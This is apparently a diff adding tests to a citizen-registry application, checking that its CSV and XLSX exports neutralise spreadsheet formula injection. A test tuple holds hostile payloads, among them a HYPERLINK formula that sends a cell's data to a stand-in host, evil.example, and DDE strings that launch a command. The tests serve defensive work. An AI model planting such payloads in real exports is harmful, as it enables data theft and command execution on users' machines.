@@ -222,3 +222,82 @@ def test_xlsx_export_leaves_no_temporary_copy(admin: Session, tmp_path: Path) ->
     after = set(shared.glob("openpyxl.*")) | set(shared.glob("embassy-desk-*"))
     assert after == before
     assert tempfile.tempdir is None or Path(tempfile.tempdir).exists()
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
+    "+cmd|'/c calc'!A1",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+)
+
+
+def test_csv_export_neutralises_formulas_and_reimports_them_as_typed(admin: Session, tmp_path: Path) -> None:
+    import csv
+
+    from tests.conftest import aigerim
+
+    made = [
+        registry.register_citizen(
+            admin,
+            aigerim(
+                notes=text,
+                address=text,
+                passport_number=f"N1234567{i}",
+                national_id=None,
+                birth_date=f"199{i}-03-14",
+            ),
+        )
+        for i, text in enumerate(HOSTILE)
+    ]
+    target = tmp_path / "out.csv"
+    exporter.export_citizens(admin, target)
+    with target.open(encoding="utf-8-sig", newline="") as handle:
+        exported = list(csv.DictReader(handle))
+    for row in exported:
+        for column, value in row.items():
+            assert not value.startswith(exporter.FORMULA_TRIGGERS) or value.startswith("+82"), (column, value)
+    assert {row["notes"] for row in exported} == {"'" + text for text in HOSTILE}
+    assert all(row["phone"].startswith("+8210") for row in exported)  # numbers stay numbers
+    other = init_workstation(
+        tmp_path / "other",
+        post=POST,
+        admin_username="admin",
+        admin_display_name="A",
+        passphrase=ADMIN_PASSPHRASE,
+        kdf=TEST_KDF,
+    )
+    session = unlock(other.paths, "admin", ADMIN_PASSPHRASE)
+    try:
+        assert importer.import_file(session, target).imported == len(made)
+        for original in made:
+            copy = registry.search(session, original.fields["passport_number"])[0]
+            assert copy.fields["notes"] == original.fields["notes"]
+    finally:
+        session.lock()
+
+
+def test_xlsx_export_writes_formula_like_values_as_text_cells(admin: Session, tmp_path: Path) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from tests.conftest import aigerim
+
+    for i, text in enumerate((*HOSTILE, "#N/A")):
+        registry.register_citizen(
+            admin,
+            aigerim(notes=text, passport_number=f"N1234567{i}", national_id=None, birth_date=f"199{i}-03-14"),
+        )
+    target = tmp_path / "out.xlsx"
+    exporter.export_citizens(admin, target)
+    with zipfile.ZipFile(target) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        xml = b"".join(archive.read(n) for n in sheets)
+    assert b"<f>" not in xml and b"<f " not in xml
+    assert b't="e"' not in xml
+    sheet = load_workbook(target).active
+    assert sheet is not None
+    header = [c.value for c in sheet[1]]
+    notes = {row[header.index("notes")] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert notes == {*HOSTILE, "#N/A"}
